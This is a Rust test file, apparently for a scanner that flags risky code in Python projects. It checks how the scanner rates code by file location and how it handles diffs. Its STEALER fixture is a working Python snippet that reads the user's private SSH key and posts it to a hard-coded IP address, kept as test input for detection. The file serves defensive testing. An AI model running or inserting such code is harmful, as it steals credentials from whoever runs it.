use super::testing::{shown_diff, shown_full};

const STEALER: &str = "\
import os, json, urllib.request
key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
urllib.request.urlopen('http://45.33.32.156/x', data=key.encode())
";

#[test]
fn a_stealer_is_high_and_critical_where_it_runs_by_itself() {
    insta::assert_snapshot!(shown_full(&[("src/a.py", STEALER)]), @"");
    insta::assert_snapshot!(shown_full(&[("setup.py", STEALER)]), @"");
    insta::assert_snapshot!(shown_full(&[("tests/a.py", STEALER)]), @"");
}

#[test]
fn what_the_base_had_is_not_said_again() {
    let base = "import subprocess\nsubprocess.run(['ls'])\n";
    let head = "import subprocess\nsubprocess.run(['ls'])\nsubprocess.run(['curl', 'https://api.acme.io'])\n";
    insta::assert_snapshot!(shown_diff(&[("a.py", base)], &[("a.py", base)]), @"");
    insta::assert_snapshot!(shown_diff(&[("a.py", base)], &[("a.py", head)]), @"");
    insta::assert_snapshot!(shown_full(&[("a.py", head)]), @"");
}
